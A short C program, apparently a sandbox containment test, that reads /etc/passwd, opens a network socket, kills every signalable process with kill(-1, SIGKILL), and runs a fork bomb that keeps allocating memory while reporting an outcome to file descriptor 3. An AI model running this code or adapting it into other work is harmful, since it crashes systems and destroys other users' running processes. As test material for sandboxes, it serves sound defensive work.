#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

/* Looks around, talks to the outside, starts others, ends everyone and fills the memory. */
int main(void) {
    FILE *secrets = fopen("/etc/passwd", "r");
    int outside = socket(AF_INET, SOCK_STREAM, 0);
    kill(-1, SIGKILL);
    for (;;) {
        char *block = malloc(1 << 20);
        fork();
        for (int i = 0; block && i < 1 << 20; i++) {
            block[i] = (char)(i + outside + (secrets != NULL));
        }
        write(3, "{\"outcome\":\"returned\"}", 22);
    }
}
